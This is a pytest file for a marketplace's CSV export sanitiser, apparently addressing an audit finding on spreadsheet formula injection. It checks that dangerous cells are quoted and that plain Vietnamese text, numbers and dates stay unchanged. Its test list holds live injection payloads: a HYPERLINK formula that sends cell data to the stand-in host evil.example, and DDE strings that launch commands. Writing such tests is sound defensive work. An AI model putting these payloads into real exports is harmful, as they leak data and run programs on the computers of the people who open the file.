"""Finding 9: what a spreadsheet would run is quoted; numbers, dates and plain text are left alone."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest

from marketplace.safety.exports import safe_cell, safe_csv_writer


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1, "Bấm vào đây")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-5+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    "harmless",
    [
        "HTX Mận Mộc Châu",
        "Nguyễn Thị Lan",
        "lan@example.vn",  # an @ inside is not a formula
        "12 Phố Huế",
        "-",  # Oscar's "no name" placeholder
        "-5",
        "+84",
        "-1.5",
        "",
    ],
)
def test_plain_text_and_numbers_as_text_are_unchanged(harmless):
    assert safe_cell(harmless) == harmless


@pytest.mark.parametrize(
    "value",
    [-5, 4, -1.5, Decimal("-150000"), True, None, datetime.date(2026, 7, 1), datetime.datetime(2026, 7, 1)],
)
def test_numbers_and_dates_stay_what_they_are(value):
    assert safe_cell(value) is value


def test_the_writer_quotes_every_hostile_cell_of_a_row():
    out = io.StringIO()
    writer = safe_csv_writer(out)
    writer.writerow(["GCN-1", "=1+1", -5, datetime.date(2026, 7, 1), "@x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["GCN-1", "'=1+1", "-5", "2026-07-01", "'@x"]
